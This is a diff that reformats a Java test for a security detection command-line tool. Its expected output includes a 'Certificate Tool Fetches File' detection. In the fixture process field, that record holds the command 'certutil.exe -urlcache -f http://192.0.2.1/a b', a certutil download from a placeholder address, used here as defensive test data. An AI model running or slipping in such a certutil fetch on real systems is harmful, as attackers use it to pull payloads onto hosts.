@@ -28,7 +28,8 @@ class DetectCommandTest {
   }
 
   private static String withoutTime(String out) {
-    return out.replaceAll("\\d+ ms", "N ms").replaceAll("\"milliseconds\":\\d+", "\"milliseconds\":0");
+    return out.replaceAll("\\d+ ms", "N ms")
+        .replaceAll("\"milliseconds\":\\d+", "\"milliseconds\":0");
   }
 
   @Test
@@ -58,14 +59,14 @@ class DetectCommandTest {
         {"detection":"Certificate Tool Fetches File","id":"0b5f2a52-6f0e-4c56-9f6e-3c1f3c1d7a02","file":"detections/endpoint/certificate_tool_fetches_file.yml","techniques":["T1105"],"stories":["Tools Of The System"],"first_time":"2023-11-15T00:13:20Z","last_time":"2023-11-15T00:13:20Z","risk_score":48,"risk_message":"eve fetched a file on pc03 with $missing$","entities":[{"field":"dest","type":"Hostname","role":"risk","score":48,"values":["pc03"]},{"field":"process","type":"Process","role":"threat","score":0,"values":["certutil.exe -urlcache -f http://192.0.2.1/a b"]}],"row":{"_time":1700007200,"dest":"pc03","user":"eve","process":"certutil.exe -urlcache -f http://192.0.2.1/a b","count":1}}
         """,
         outcome.out());
-    assertEquals(
-        3, detect("processes.csv", "--format", "ndjson").out().lines().count());
+    assertEquals(3, detect("processes.csv", "--format", "ndjson").out().lines().count());
   }
 
   @Test
   void jsonHasTheStateOfEachDetection() {
     Outcome outcome =
-        detect("quiet.csv", "--filter", "name=*shell", "--filter", "name=badge*", "--format", "json");
+        detect(
+            "quiet.csv", "--filter", "name=*shell", "--filter", "name=badge*", "--format", "json");
     assertEquals(
         """
         {"detections":2,"fired":0,"silent":1,"not_runnable":1,"failed":0,"milliseconds":0,"results":[
